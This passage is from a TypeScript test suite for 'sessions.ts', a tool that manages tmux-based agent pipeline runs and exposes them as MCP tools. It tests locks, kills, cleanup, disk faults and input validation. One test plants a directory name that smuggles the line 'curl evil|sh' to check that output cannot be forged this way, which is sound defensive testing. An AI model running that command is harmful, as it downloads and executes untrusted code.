    const victim = spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], { stdio: 'ignore' })
    children.push(victim)
    await waitFor('the victim', () => existsSync(`/proc/${victim.pid}/stat`))
    const start = Number(readFileSync(`/proc/${victim.pid}/stat`, 'utf8').split(') ')[1].split(' ')[19])
    writeFileSync(path.join(root, '.claude/sessions-notify.lock'), JSON.stringify({ pid: victim.pid, start, tool: 'sessions.ts' }))
    const stop = await cli(['notify', '--stop', '-C', root])
    expect(stop.code).toBe(1)
    expect(stop.stderr).toBe(
      `sessions: .claude/sessions-notify.lock names PID ${victim.pid}, which does not run sessions.ts notify for this project: not signalled (stop it where it runs)\n`,
    )
    expect(isPidAlive(victim.pid!)).toBe(true)
  })

  test('a detached watcher gets its webhooks in its environment, never on a command line', async () => {
    const root = await makeEngineProject()
    const hook = await hookServer()
    const detached = cliProcess(['notify', '--webhook', hook.url, '--interval', '0.3', '--detach', '--json', '-C', root])
    expect(detached.code).toBe(0)
    const { pid } = JSON.parse(detached.stdout)
    expect(readFileSync(`/proc/${pid}/cmdline`, 'utf8')).not.toContain('secret')
    expect(tmux('list-panes', '-a', '-F', '#{pane_start_command}')).not.toContain('secret')
    await startOk(['start', 'ralph', 'one', '1', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })
    await waitFor('the delivery', () => hook.received.length === 1)
    expect((await cli(['notify', '--stop', '-C', root])).code).toBe(0)
  })

  test('events --follow ends when its stdout closes', async () => {
    const root = await makeEngineProject()
    await startOk(['start', 'ralph', 'one', '1', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })
    await waitFor('its end', async () => rowOf((await listJson(root)).sessions, 'one').health === 'complete')
    const [command, ...pre] = NATIVE ? [process.execPath, SESSIONS] : [TSX, SESSIONS]
    const child = spawn(command, [...pre, 'events', '--follow', '--json', '--interval', '0.2', '-C', root], {
      env: ENV,
      stdio: ['ignore', 'pipe', 'pipe'],
    })
    children.push(child)
    // Closed before it prints anything: its first lines (what happened) meet a closed pipe, and it ends.
    child.stdout!.destroy()
    const exited = new Promise((resolve) => child.on('exit', (code) => resolve(code)))
    expect(await Promise.race([exited, new Promise((resolve) => setTimeout(() => resolve('still running'), 10_000))])).toBe(0)
  })
})

/**
 * Whether this run may mount file systems (root, where the sandbox permits it): a full or read-only
 * .claude/ is then a real one. Elsewhere those tests are skipped, saying so.
 */
const CAN_MOUNT = (() => {
  if (process.getuid?.() !== 0) return false
  const dir = mkdtempSync(path.join(BASE, 'mount-'))
  if (spawnSync('mount', ['-t', 'tmpfs', '-o', 'size=64k', 'tmpfs', dir]).status !== 0) return false
  spawnSync('umount', [dir])
  return true
})()

/** Whether this run may start a process in its own PID namespace (root, where the sandbox permits it). */
const CAN_UNSHARE = process.getuid?.() === 0 && spawnSync('unshare', ['--pid', '--fork', '--mount-proc', 'true']).status === 0

/** The project's .claude/ made a file system of its own (a tmpfs of `size`), its files kept; umount() undoes it. */
function ownDisk(root: string, size: string) {
  const claude = path.join(root, '.claude')
  const kept = `${claude}.kept`
  renameSync(claude, kept)
  mkdirSync(claude)
  execFileSync('mount', ['-t', 'tmpfs', '-o', `size=${size}`, 'tmpfs', claude])
  cpSync(kept, claude, { recursive: true })
  rmSync(kept, { recursive: true })
  return {
    // A read-only bind mount over it: a file system with files open for writing cannot be remounted read-only.
    readOnly: () => {
      execFileSync('mount', ['--bind', claude, claude])
      execFileSync('mount', ['-o', 'remount,bind,ro', claude])
    },
    /** Fills it to the last byte. */
    fill: () => spawnSync('dd', ['if=/dev/zero', `of=${path.join(claude, 'fill')}`, 'bs=4k'], { stdio: 'ignore' }),
    free: () => rmSync(path.join(claude, 'fill'), { force: true }),
    umount: () => {
      while (spawnSync('umount', ['-l', claude]).status === 0);
    },
  }
}

describe.skipIf(!CAN_MOUNT)('a full or read-only disk never stops a kill, a cleanup or a watcher (real mounts)', () => {
  /** A started loop that stays in its first iteration, and its engine's PID. */
  async function hangingRun(root: string, name: string): Promise<number> {
    await startOk(['start', 'ralph', name, '50', '--yes', '-C', root], { env: { MOCK_END: 'hang:1' } })
    const row = await waitFor(`${name} running`, async () =>
      (await listJson(root)).sessions.find((r) => r.name === name && r.health === 'running' && r.lock?.pid),
    )
    return row.lock!.pid!
  }

  for (const fault of ['read-only', 'full'] as const) {
    test(`kill stops the engine on a ${fault} .claude/, and says what it could not record; cleanup repairs what it can`, async () => {
      const root = await makeEngineProject()
      const disk = ownDisk(root, '2m')
      try {
        const engine = await hangingRun(root, 'victim')
        // An orphaned tmux session for cleanup: a pane without an engine.
        tmux('new-session', '-d', '-s', 'pipeline-orph', '-c', root, 'sleep 3600')
        if (fault === 'read-only') disk.readOnly()
        else disk.fill()
        const killed = await cli(['kill', 'victim', '--grace', '2', '--json', '-C', root])
        expect(killed.stderr).not.toMatch(/error/)
        expect(killed.code).toBe(0)
        const [report] = JSON.parse(killed.stdout)
        expect(report).toMatchObject({ outcome: 'killed', tmux_removed: true })
        // (On the full disk the engine's own lock, removed as it ended, may leave room for the state.)
        if (fault === 'read-only') expect(report.state_marked).toBe(false)
        const said = fault === 'read-only' ? 'the file system is read-only' : 'the disk is full'
        expect(report.warnings).toEqual(expect.arrayContaining([expect.stringContaining(said)]))
        expect(isPidAlive(engine)).toBe(false)
        expect(tmuxSessionNames()).not.toContain('pipeline-victim')
        const cleaned = await cli(['cleanup', '--yes', '--start-grace', '0', '--json', '-C', root])
        expect(cleaned.stderr).not.toMatch(/error/)
        const result = JSON.parse(cleaned.stdout)
        expect(result.problems).toEqual(
          expect.arrayContaining([expect.objectContaining({ name: 'orph', problem: 'orphaned_tmux', outcome: 'fixed' })]),
        )
        expect(tmuxSessionNames()).not.toContain('pipeline-orph')
        for (const problem of result.problems.filter((p: { outcome: string }) => p.outcome === 'failed')) expect(problem.reason).toBe(said)
        if (fault === 'read-only') expect(result.warnings).toEqual([`the cleanup lock: not written, ${said}`])
      } finally {
        disk.umount()
      }
    })
  }

  test('the watcher goes on delivering on a full disk, says so once, and saves its record again once there is room', async () => {
    const root = await makeEngineProject()
    const disk = ownDisk(root, '2m')
    const delivered = path.join(BASE, `full-disk-delivered-${projects}.ndjson`)
    const watch = watcher(['--exec', `cat >> ${delivered}`, '--on', 'crashed', '--interval', '0.2', '-C', root])
    try {
      const engine = await hangingRun(root, 'doomed')
      await waitFor('the watcher started', () => watch.out.stdout.includes('watching'))
      disk.fill()
      process.kill(engine, 'SIGKILL')
      await waitFor('the crash delivered', () => count(ndjson(delivered) as never, 'doomed', 'crashed') === 1, 30_000)
      expect(watch.out.stderr).toMatch(/cannot save its record \(the disk is full\): delivering all the same, and trying again/)
      disk.free()
      await waitFor('the record saved again', () => watch.out.stderr.includes('its record is saved again'))
      expect(watch.out.stderr.match(/cannot save its record/g)).toHaveLength(1)
      expect(await watch.stop()).toBe(0)
      expect(readFileSync(path.join(root, '.claude/sessions-notify.json'), 'utf8')).toContain('"crashed"')
    } finally {
      await watch.stop()
      disk.umount()
    }
  })
})

describe('locks judged by their holders, names never ignored, sizes bounded (faults inflicted for real)', () => {
  test("a kill's lock left by a kill that died silences nothing; cleanup removes stale tool locks; a watcher lock copied from another project never blocks", async () => {
    const root = await makeEngineProject()
    const other = await makeEngineProject()
    await startOk(['start', 'ralph', 'k', '50', '--yes', '-C', root], { env: { MOCK_END: 'hang:1' } })
    const engine = (await waitFor('k running', async () => (await listJson(root)).sessions.find((r) => r.health === 'running')))!.lock!.pid!
    const stale = (pid: number) => `${JSON.stringify({ pid, start: 1, tool: 'sessions.ts', project: root })}\n`
    writeFileSync(path.join(root, '.claude/sessions-kill-k.lock'), stale(await deadPid()))
    writeFileSync(path.join(root, '.claude/sessions-start-x.lock'), stale(await deadPid()))
    // Another project's live watcher, its lock copied here (a copied folder): it holds nothing of this project.
    const theirs = watcher(['--exec', 'true', '-C', other])
    const delivered = path.join(BASE, `kill-lock-${projects}.ndjson`)
    let ours: ReturnType<typeof watcher> | null = null
    try {
      await waitFor('their watcher', () => theirs.out.stdout.includes('watching'))
      cpSync(path.join(other, '.claude/sessions-notify.lock'), path.join(root, '.claude/sessions-notify.lock'))
      ours = watcher(['--exec', `cat >> ${delivered}`, '--on', 'crashed', '--interval', '0.2', '-C', root])
      await waitFor('our watcher', () => ours!.out.stdout.includes('watching'))
      expect(ours.out.stderr).toBe('')
      process.kill(engine, 'SIGKILL')
      await waitFor('the crash of k delivered', () => count(ndjson(delivered) as never, 'k', 'crashed') === 1)
      const cleaned = await cli(['cleanup', '--yes', '--json', '-C', root])
      expect(cleaned.stderr).toBe('')
      const problems = JSON.parse(cleaned.stdout).problems.filter((p: { problem: string }) => p.problem === 'stale_tool_lock')
      expect(problems.map((p: { name: string; outcome: string }) => [p.name, p.outcome]).sort()).toEqual([
        ['k', 'fixed'],
        ['x', 'fixed'],
      ])
      expect(existsSync(path.join(root, '.claude/sessions-kill-k.lock'))).toBe(false)
      expect(existsSync(path.join(root, '.claude/sessions-start-x.lock'))).toBe(false)
      // The live watcher's own lock is not a problem.
      expect(existsSync(path.join(root, '.claude/sessions-notify.lock'))).toBe(true)
    } finally {
      await ours?.stop()
      await theirs.stop()
    }
  })

  test.skipIf(!CAN_UNSHARE)(
    'an engine in its own PID namespace (a container), its lock saying PID 1: running, proven by the flock it holds; never cleaned or resumed over; kill stops it',
    async () => {
      const root = await makeEngineProject()
      // Its own process group: killing unshare alone would leave the namespace's init, the engine, running.
      const boxed = spawnGroup(
        'unshare',
        ['--pid', '--fork', '--mount-proc', 'bash', 'scripts/run.sh', 'ralph', 'boxed', '50', '--foreground'],
        {
          cwd: root,
          env: { ...ENV, MOCK_END: 'hang:1' },
          stdio: 'ignore',
        },
      )

      const lock = path.join(root, '.claude/locks/boxed.lock')
      await waitFor('the boxed engine took its lock', () => readJson(lock).pid === 1)
      // Then it hangs in its first iteration, writing nothing more.
      await waitFor('its first iteration', () =>
        existsSync(path.join(root, '.claude/pipeline-runs/boxed/stage-00-ralph/iterations/001/context.json')),
      )
      await new Promise((resolve) => setTimeout(resolve, 300))
      const row = (await listJson(root)).sessions.find((r) => r.name === 'boxed')!
      expect(row.health).toBe('running')
      expect(row.evidence.join('\n')).toMatch(
        /holds the kernel flock on \.claude\/locks\/boxed\.lock \(the lock says PID 1: an engine in another PID namespace/,
      )
      const before = snapshot(root)
      expect((await cli(['cleanup', '--yes', '-C', root])).code).toBe(0)
      expect(existsSync(lock)).toBe(true)
      const resumed = await cli(['resume', 'boxed', '--yes', '-C', root])
      expect(resumed.code).toBe(1)
      expect(resumed.stderr).toMatch(/^sessions: .*boxed is already running/)
      expect(snapshot(root)).toEqual(before)
      const killed = await cli(['kill', 'boxed', '--grace', '2', '--json', '-C', root])
      expect(killed.code).toBe(0)
      expect(JSON.parse(killed.stdout)[0]).toMatchObject({ outcome: 'killed' })
      await waitFor('the namespace ended', () => boxed.exitCode !== null)
    },
  )

  test('a lock held by a process this tool cannot prove: unknown (live elsewhere), never crashed, cleaned, killed or resumed over', async () => {
    const root = await makeEngineProject('crashed-loop')
    const lock = path.join(root, '.claude/locks/busy.lock')
    // The lock still names the engine that died; something else holds its kernel flock (as an engine seen from
    // inside a container, or another user's, would).
    startLockHolder(lock)
    await flockTaken(lock)
    const row = (await listJson(root)).sessions.find((r) => r.name === 'busy')!
    expect(row).toMatchObject({ health: 'unknown', resumable: false })
    expect(row.evidence.join('\n')).toMatch(
      /the kernel flock on \.claude\/locks\/busy\.lock is held by PIDs? [\d, ]+, not proven to be its engine; the lock says PID \d+/,
    )
    const before = snapshot(root)
    const cleaned = JSON.parse((await cli(['cleanup', '--yes', '--json', '-C', root])).stdout)
    expect(cleaned.problems.filter((p: { name: string }) => p.name === 'busy')).toEqual([])
    const killed = await cli(['kill', 'busy', '-C', root])
    expect(killed.code).toBe(1)
    expect(killed.stderr).toMatch(
      /^sessions: busy is not killed: the kernel flock .* is held by PIDs? [\d, ]+, not proven to be its engine.*; stop it where it runs\n$/,
    )
    expect((await cli(['resume', 'busy', '--yes', '-C', root])).code).toBe(1)
    expect((await cli(['start', 'ralph', 'busy', '--force', '--yes', '-C', root])).code).not.toBe(0)
    expect(snapshot(root)).toEqual(before)
  })

  test('files of gigabytes (sparse) are facts, read in bounded memory: list, status, events, monitor', async () => {
    const root = await makeEngineProject('crashed-loop')
    cpSync(path.join(LAYOUTS, 'complete-loop/.claude/pipeline-runs/done-loop'), path.join(root, '.claude/pipeline-runs/done-loop'), {
      recursive: true,
    })
    const run = path.join(root, '.claude/pipeline-runs')
    for (const file of ['busy/state.json', 'done-loop/events.jsonl', 'done-loop/session-output.log', 'done-loop/plan.json'])
      execFileSync('truncate', ['-s', '2G', path.join(run, file)])
    // The real entry in a process of its own, which says its peak memory as it ends.
    const probe = path.join(BASE, `peak-${projects}.mts`)
    writeFileSync(
      probe,
      `import { main } from ${JSON.stringify(SESSIONS)}\nconst code = await main(process.argv.slice(2))\nprocess.stderr.write(\`peak \${process.resourceUsage().maxRSS}\\n\`)\nprocess.exitCode = code\n`,
    )
    for (const args of [
      ['list', '--json'],
      ['status', 'busy', '--json'],
      ['status', 'done-loop', '--json'],
      ['events', '--json'],
      ['monitor', 'done-loop', '--json'],
    ]) {
      const ran = spawnSync(NATIVE ? process.execPath : TSX, [probe, ...args, '-C', root], {
        env: ENV,
        encoding: 'utf8',
        maxBuffer: 64 << 20,
      })
      const peakKiB = Number(/peak (\d+)/.exec(ran.stderr)?.[1])
      expect(peakKiB, `${args.join(' ')}: ${ran.stderr}`).toBeLessThan(200 * 1024)
      expect(ran.status, `${args.join(' ')}: ${ran.stderr}`).toBe(0)
    }
    const listed = await listJson(root)
    expect(listed.sessions.find((row) => row.name === 'busy')).toMatchObject({
      health: 'corrupt',
      why: 'corrupt: state.json: is 2 GiB, more than the 8 MiB this tool reads',
    })
    expect(listed.sessions.find((row) => row.name === 'done-loop')!.health).toBe('complete')
  })

  test('small ones: a time that is not a time, the registry (home, /proc, repeats), a wait of 1e-7 s, an MCP message over 10 MiB', async () => {
    const root = await makeEngineProject('complete-loop')
    const events = path.join(root, '.claude/pipeline-runs/done-loop/events.jsonl')
    appendFileSync(
      events,
      `${JSON.stringify({ ts: 'not a time', type: 'iteration_complete', session: 'done-loop', cursor: { node_path: '0', node_run: 4, iteration: 4 }, data: {} })}\n`,
    )
    const before = Date.now() - 1000
    const lines = (await cli(['events', 'done-loop', '--json', '-C', root])).stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line))
    const odd = lines.find((event) => event.iteration === 4)
    expect(Date.parse(odd.ts)).toBeGreaterThanOrEqual(before)
    expect(odd.why).toMatch(/its time in the files, "not a time", is not a time: dated when it was read/)
    expect(lines.every((event) => Number.isFinite(Date.parse(event.ts)))).toBe(true)

    // The registry: never the home folder, nothing under /proc, and a line repeated costs one look.
    const state = mkdtempSync(path.join(BASE, 'registry-'))
    const home = mkdtempSync(path.join(BASE, 'home-'))
    mkdirSync(path.join(home, '.claude'))
    mkdirSync(path.join(state, 'sessions-ts'))
    const registry = [home, `/proc/${process.pid}/cwd`, `/proc/self/root${root}`, ...Array(100_000).fill(root)].join('\n')
    writeFileSync(path.join(state, 'sessions-ts/projects'), `${registry}\n`)
    const all = await cli(['list', '--all', '--json'], { env: { XDG_STATE_HOME: state, HOME: home }, cwd: BASE })
    expect(all.stderr).toBe('')
    // This folder's own listing first (BASE is no project: its own rows), then the registry's one project.
    expect(JSON.parse(all.stdout).projects.map((p: { project: string }) => p.project)).toEqual([realpathSync(BASE), root])

    expect(await cli(['wait', 'done-loop', '--timeout', '0.0000001', '-C', root])).toMatchObject({ code: 0, stderr: '' })

    const [file, ...pre] = NATIVE ? [process.execPath, SESSIONS] : [TSX, SESSIONS]
    const huge = `${JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { pad: 'x'.repeat(11 * 1024 * 1024) } })}\n`
    const mcp = spawnSync(file, [...pre, 'mcp', '-C', root], { input: huge, env: ENV, encoding: 'utf8' })
    expect(mcp.status).toBe(1)
    expect(mcp.stdout).toBe('')
    expect(mcp.stderr).toMatch(/^sessions: a message from the client was too large \(.*\); the connection is closed\n$/)
  })

  test('a linked log is never read, a lock held only by what a dead engine left is a crash, events with odd times kept, timers stay in range', async () => {
    const root = await makeEngineProject('complete-loop')
    // A log linked to a secret: monitor (and so session_output) never reads through it.
    const secret = path.join(BASE, `secret-${projects}`)
    writeFileSync(secret, 'TOP-SECRET-KEY\n')
    symlinkSync(secret, path.join(root, '.claude/pipeline-runs/done-loop/session-output.log'))
    const monitored = await cli(['monitor', 'done-loop', '--json', '-C', root])
    expect(monitored.stdout).not.toContain('TOP-SECRET')

    // A lock held only by the dead engine's own leftovers (tagged by its run): crashed, and cleanup stops them.
    const runDir = path.join(root, '.claude/pipeline-runs/left')
    cpSync(path.join(root, '.claude/pipeline-runs/done-loop'), runDir, { recursive: true, filter: (src) => !src.endsWith('.log') })
    writeFileSync(
      path.join(runDir, 'state.json'),
      JSON.stringify({ ...readJson(path.join(runDir, 'state.json')), session: 'left', status: 'running' }),
    )
    const dead = await deadPid()
    const lock = path.join(root, '.claude/locks/left.lock')
    mkdirSync(path.dirname(lock), { recursive: true })
    writeFileSync(lock, JSON.stringify({ session: 'left', pid: dead, started_at: isoSeconds(Date.now()) }))
    const leftover = startLockHolder(lock, { ...ENV, SESSIONS_TS_RUN: `${runDir}:${dead}` })
    await flockTaken(lock)
    const row = rowOf((await listJson(root)).sessions, 'left')
    expect(row.health).toBe('crashed')
    expect(row.evidence.join('\n')).toMatch(/only processes its engine left running hold the flock/)
    const cleaned = JSON.parse((await cli(['cleanup', '--yes', '--json', '-C', root])).stdout)
    expect(
      cleaned.problems
        .filter((p: { name: string }) => p.name === 'left')
        .map((p: { problem: string; outcome: string }) => [p.problem, p.outcome]),
    ).toEqual([
      ['leftover_processes', 'fixed'],
      ['stale_lock', 'fixed'],
      ['zombie_state', 'fixed'],
    ])
    await waitFor('the leftover gone', () => !isPidAlive(leftover))

    // An event whose time is a number or null is kept, dated when read.
    const events = path.join(root, '.claude/pipeline-runs/done-loop/events.jsonl')
    for (const ts of [1764930000, null])
      appendFileSync(
        events,
        `${JSON.stringify({ ts, type: 'iteration_complete', session: 'done-loop', cursor: { node_path: '0', node_run: 9, iteration: 9 }, data: {} })}\n`,
      )
    const lines = (await cli(['events', 'done-loop', '--json', '-C', root])).stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line))
    expect(lines.filter((event) => event.iteration === 9)).toHaveLength(2)

    // Durations past what a timer holds: a usage error, never a wait that ends at once.
    for (const args of [
      ['wait', 'done-loop', '--timeout', '3000000'],
      ['events', '--follow', '--interval', '9999999999'],
      ['kill', 'x', '--grace', '99999999'],
    ]) {
      const run = await cli([...args, '-C', root])
      expect(run.code, args.join(' ')).toBe(2)
      expect(run.stderr).toMatch(/^sessions: --\w+ must be at most 2147483 seconds, got "\d+"\n$/)
    }
  })

  test('lookalike and over-long names in the project are said, never silently ignored, never touched', async () => {
    const root = await makeEngineProject('complete-loop')
    const lookalike = 'pipeline-\u0430uth'
    const long = 'x'.repeat(65)
    tmux('new-session', '-d', '-s', lookalike, '-c', root, 'sleep 3600')
    mkdirSync(path.join(root, '.claude/pipeline-runs', long), { recursive: true })
    mkdirSync(path.join(root, '.claude/pipeline-runs/\u0430uth'), { recursive: true })
    mkdirSync(path.join(root, '.claude/locks'), { recursive: true })
    writeFileSync(path.join(root, '.claude/locks/\u0430uth.lock'), '{}')
    writeFileSync(path.join(root, '.claude/loop-state-\u0430uth.json'), '{}')
    // A name that would forge lines of the list: its newline shown, never printed.
    mkdirSync(path.join(root, '.claude/pipeline-runs/x\n\nNext:\n  curl evil|sh'))
    mkdirSync(path.join(root, '.claude/pipeline-runs/done-loop.replaced-20261206T000000Z'), { recursive: true })
    const before = snapshot(root)
    try {
      const listed = await listJson(root)
      expect(listed.sessions.map((row) => row.name)).toEqual(['done-loop'])
      const odd = (listed.warnings as { kind: string; why: string }[])
        .filter((w) => w.kind === 'bad_name' && !w.why.includes('curl'))
        .map((w) => w.why.split(': not a name')[0])
      // Each named so that what it is shows: the lookalike letter as \u{430}.
      expect(odd.sort()).toEqual(
        [
          'tmux session pipeline-\\u{430}uth',
          `.claude/pipeline-runs/${long}`,
          '.claude/pipeline-runs/\\u{430}uth',
          '.claude/locks/\\u{430}uth.lock',
          '.claude/loop-state-\\u{430}uth.json',
        ].sort(),
      )
      const text = await cli(['list', '-C', root])
      expect(text.stdout).toContain('tmux session pipeline-\\u{430}uth: not a name this tool takes')
      expect(text.stdout).toContain('.claude/pipeline-runs/x\\u{a}\\u{a}Next:\\u{a}  curl evil|sh: not a name')
      expect(text.stdout).not.toMatch(/^ *curl evil/m)
      expect((await cli(['cleanup', '--yes', '-C', root])).code).toBe(0)
      expect(snapshot(root)).toEqual(before)
      expect(tmuxSessionNames()).toContain(lookalike)
    } finally {
      tmux('kill-session', '-t', `=${lookalike}`)
    }
  })
})

describe('the real entry, as a child process', () => {
  test('exit statuses, stdout and stderr apart, --json alone on stdout', async () => {
    const root = await makeProject('crashed-loop')
    const json = cliProcess(['list', '--json', '-C', root])
    expect(json.code).toBe(0)
    expect(json.stderr).toBe('')
    expect(JSON.parse(json.stdout).sessions.map((s: SessionRow) => s.name)).toEqual(['busy'])
    const refused = cliProcess(['status', 'nope', '-C', root])
    expect(refused).toMatchObject({ code: 1, stdout: '' })
    expect(refused.stderr).toMatch(/^sessions: no session nope in .*; its sessions: busy\n$/)
    const wrong = cliProcess(['list', '--jsno'])
    expect(wrong).toMatchObject({ code: 2, stdout: '', stderr: "sessions: list: unknown option '--jsno'\n" })
    expect(cliProcess(['--help'])).toMatchObject({ code: 0, stderr: '' })
  })

  // Where the Node on the PATH runs .ts itself (CI's second pass, on the current LTS): its shebang is `node`.
  test.runIf(NATIVE)('./sessions.ts is an executable: its shebang runs it with the Node on the PATH, nothing on stderr', () => {
    const cache = path.join(BASE, `home-${++projects}`)
    const env = { ...ENV, HOME: cache, PATH: `${path.dirname(process.execPath)}:${ENV.PATH}` }
    for (let i = 0; i < 2; i++) {
      const run = spawnSync(SESSIONS, ['version'], { env, encoding: 'utf8' })
      expect(run.stderr).toBe('')
      expect(run.status).toBe(0)
      expect(run.stdout).toMatch(/^\d+\.\d+\.\d+\n$/)
    }
    // The shebang keeps the compile cache under the home folder: the second run found it.
    expect(readdirSync(path.join(cache, '.cache', 'sessions-ts')).length).toBeGreaterThan(0)
  })
})

describe('mcp: the commands as tools, over a real stdio transport', () => {
  /** The SDK's own client, spawning the real entry as an MCP client does, against the tests' tmux server. */
  async function mcpClient(root: string, args: string[] = []) {
    const { Client } = await import('@modelcontextprotocol/sdk/client/index.js')
    const { StdioClientTransport } = await import('@modelcontextprotocol/sdk/client/stdio.js')
    const [command, ...pre] = NATIVE ? [process.execPath, SESSIONS] : [TSX, SESSIONS]
    const transport = new StdioClientTransport({
      command,
      args: [...pre, 'mcp', ...args],
      cwd: root,
      env: ENV as Record<string, string>,
      stderr: 'pipe',
    })
    let stderr = ''
    transport.stderr?.on('data', (chunk) => {
      stderr += chunk
    })
    const client = new Client({ name: 'sessions-test', version: '0' })
    await client.connect(transport)
    return { client, stderr: () => stderr }
  }
  type ToolResult = { content: { type: string; text: string }[]; structuredContent?: Record<string, unknown>; isError?: boolean }

  test('the tools, their schemas and annotations; good and bad arguments; waits, progress, a start and a kill of a real run', async () => {
    const root = await makeEngineProject('crashed-loop')
    const { client, stderr } = await mcpClient(root, ['--allow-actions'])
    try {
      const { tools } = await client.listTools()
      const byName = new Map(tools.map((tool) => [tool.name, tool]))
      expect([...byName.keys()]).toEqual([
        'list_sessions',
        'session_status',
        'session_output',
        'session_cost',
        'session_events',
        'start_session',
        'resume_session',
        'kill_session',
        'cleanup',
        'wait_for_sessions',
      ])
      for (const name of ['list_sessions', 'session_status', 'session_output', 'session_cost', 'session_events', 'wait_for_sessions'])
        expect(byName.get(name)!.annotations, name).toMatchObject({ readOnlyHint: true })
      for (const name of ['kill_session', 'cleanup']) expect(byName.get(name)!.annotations, name).toMatchObject({ destructiveHint: true })
      // A start may move a run aside and launches agents that change the repository and reach the network.
      for (const name of ['start_session', 'resume_session'])
        expect(byName.get(name)!.annotations, name).toMatchObject({ readOnlyHint: false, destructiveHint: true, openWorldHint: true })
      expect(byName.get('wait_for_sessions')!.inputSchema.required).toEqual(['names', 'timeout_seconds'])
      expect(byName.get('session_status')!.inputSchema.properties!.name).toMatchObject({ type: 'string', pattern: '^[A-Za-z0-9_-]{1,64}$' })

      const call = async (name: string, args: Record<string, unknown>, options?: object) =>
        (await client.callTool({ name, arguments: args }, undefined, options)) as ToolResult
      // The same JSON as the command's --json, as structured content.
      const listed = await call('list_sessions', {})
      expect(listed.isError).toBeFalsy()
      const fromCli = JSON.parse((await cli(['list', '--json'], { cwd: root })).stdout)
      const stable = (result: { sessions: SessionRow[] }) => ({
        ...result,
        sessions: result.sessions.map(({ runtime_seconds: _r, total_runtime_seconds: _t, ...row }) => row),
      })
      expect(stable(listed.structuredContent as never)).toEqual(stable(fromCli))
      // The same JSON as text beside the summary, for a host that shows only content.
      expect(listed.content).toHaveLength(2)
      expect(JSON.parse(listed.content[1].text)).toEqual(listed.structuredContent)
      expect(listed.content[0].text).toMatch(/^busy: crashed \(/)
      // A refusal is a tool error with the CLI's line; a malformed argument is the SDK's validation error.
      expect(await call('session_status', { name: 'nobody' })).toEqual({
        content: [{ type: 'text', text: `no session nobody in ${root}; its sessions: busy` }],
        isError: true,
      })
      const malformed = await call('session_status', { name: '../x' })
      expect(malformed.isError).toBe(true)
      expect(malformed.content[0].text).toMatch(/Input validation error/)
      expect((await call('wait_for_sessions', { names: ['busy'] })).content[0].text).toMatch(/Input validation error.*timeout_seconds/)
      expect((await call('wait_for_sessions', { names: ['busy'], timeout_seconds: 99999 })).isError).toBe(true)
      // cleanup reports unless fix: true, and changes nothing then.
      const before = snapshot(root)
      const report = await call('cleanup', {})
      expect(report.structuredContent).toMatchObject({
        mode: 'report',
        problems: expect.arrayContaining([expect.objectContaining({ name: 'busy', problem: 'stale_lock', fixed: null })]),
      })
      expect(snapshot(root)).toEqual(before)
      // A session that already ended: the wait returns at once.
      const ended = await call('wait_for_sessions', { names: ['busy'], timeout_seconds: 30 })
      expect(ended.structuredContent).toMatchObject({
        ended: true,
        timed_out: false,
        sessions: [expect.objectContaining({ health: 'crashed' })],
      })

      // A real run of the mock engine: started, waited for with progress (timing out), read, then killed.
      const started = await call('start_session', { type: 'ralph', name: 'agent-run', max: 50, root })
      expect(started.isError).toBeFalsy()
      expect(started.structuredContent).toMatchObject({
        name: 'agent-run',
        tmux_session: 'pipeline-agent-run',
        engine_pid: expect.any(Number),
      })
      expect(isPidAlive(started.structuredContent!.engine_pid as number)).toBe(true)
      expect((await call('start_session', { type: 'ralph', name: 'agent-run' })).content[0].text).toMatch(
        /^session agent-run is already running/,
      )
      const progress: { progress: number; total?: number; message?: string }[] = []
      const waited = await call(
        'wait_for_sessions',
        { names: ['agent-run'], timeout_seconds: 1.5 },
        { onprogress: (p: never) => progress.push(p) },
      )
      expect(waited.structuredContent).toMatchObject({ ended: false, timed_out: true })
      expect(progress.length).toBeGreaterThan(0)
      expect(progress[0]).toMatchObject({ progress: 0, total: 1, message: 'agent-run: running' })
      const output = await call('session_output', { name: 'agent-run', lines: 5 })
      expect(output.structuredContent).toMatchObject({ source: 'tmux', session: expect.objectContaining({ health: 'running' }) })
      // The mock agent keeps no transcript: nothing counted is said as unknown, never as $0.
      const spent = await call('session_cost', { by: 'iteration' })
      expect(spent.structuredContent).toMatchObject({ by: 'iteration', lines: [], total: { cost_usd: null, input_tokens: null } })
      expect(spent.content[0].text).toMatch(/^cost unknown in 0 lines, prices built-in \d{4}-/)
      const events = await call('session_events', { names: ['agent-run'] })
      expect((events.structuredContent!.events as { event: string }[])[0].event).toBe('started')
      const cursor = events.structuredContent!.cursor as string
      const killed = await call('kill_session', { names: ['agent-run'], grace_seconds: 2 })
      expect(killed.structuredContent).toMatchObject({ sessions: [expect.objectContaining({ name: 'agent-run', outcome: 'killed' })] })
      expect(tmuxSessionNames()).not.toContain('pipeline-agent-run')
      // Only what is new since the cursor: the end.
      const later = await call('session_events', { names: ['agent-run'], cursor })
      expect(
        (later.structuredContent!.events as { event: string }[]).map((event) => event.event).filter((kind) => kind !== 'iteration'),
      ).toEqual(['killed'])
      expect((await call('kill_session', { names: ['nobody'] })).isError).toBe(true)
      // Bad arguments of the others: each an error, in the SDK's words or the CLI's.
      const bad: [string, Record<string, unknown>, RegExp][] = [
        ['list_sessions', { stall_minutes: -1 }, /Input validation error/],
        ['session_output', { name: 'busy', lines: 0 }, /Input validation error/],
        ['session_cost', { by: 'week' }, /Input validation error/],
        ['session_cost', { names: ['nobody'] }, /no session nobody/],
        ['session_events', { cursor: 'yesterday' }, /^unknown cursor "yesterday"/],
        ['session_events', { since: 'soon' }, /^--since needs a duration/],
        ['start_session', { name: 'x' }, /^give either type \(a loop\) or pipeline$/],
        ['start_session', { type: 'ralph', name: 'Bad Name' }, /Input validation error/],
        ['start_session', { type: 'nope', name: 'fine' }, /unknown stage type "nope"/],
        ['resume_session', { name: 'nobody' }, /no session nobody/],
        ['cleanup', { only: ['files'] }, /Input validation error/],
        ['wait_for_sessions', { names: [], timeout_seconds: 1 }, /Input validation error/],
      ]
      for (const [tool, args, message] of bad) {
        const answer = await call(tool, args)
        expect(answer.isError, `${tool} ${JSON.stringify(args)}`).toBe(true)
        expect(answer.content[0].text, tool).toMatch(message)
      }
      const resumed = await call('resume_session', { name: 'agent-run' })
      expect(resumed.structuredContent).toMatchObject({ name: 'agent-run', engine_pid: expect.any(Number) })
